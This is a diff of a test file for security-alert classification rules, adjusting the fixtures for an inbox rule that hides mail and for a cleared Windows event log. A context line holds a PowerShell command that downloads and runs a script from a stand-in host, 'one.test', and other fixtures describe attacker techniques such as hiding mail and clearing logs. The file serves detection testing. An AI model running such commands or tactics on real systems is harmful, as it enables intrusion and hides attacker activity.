@@ -310,7 +310,11 @@ describe('the rules, on attacks that a calming fact stands beside', () => {
       'one engine of many that finds nothing',
       { positives: 69, engines: { a: 'Gen:Variant', b: 'undetected' } },
     ],
-    ['malicious', 'a rule that hides mail', { mfa: 'passkey', event: 'New inbox rule' }],
+    [
+      'malicious',
+      'a rule that hides mail',
+      { mfa: 'passkey', Operation: 'New-InboxRule', MoveToFolder: 'RSS Feeds' },
+    ],
     ['malicious', 'a wave of mails', { ...PHISH, spf: 'fail', dmarc: 'fail', others_today: 240 }],
     ['malicious', 'a download that is run', { cmd: 'powershell iwr http://one.test/a | iex' }],
     [
@@ -359,7 +363,7 @@ describe('the rules, on machines, accounts and servers', () => {
       'one that was made at night',
       { EventID: 4728, group: 'Domain Admins', time: '03:11' },
     ],
-    ['malicious', 'a log that was cleared', { EventID: 1102, computer: 'DC-1' }],
+    ['suspicious', 'a log that was cleared', { EventID: 1102, computer: 'DC-1' }],
     [
       'malicious',
       'a flood of prompts in words',
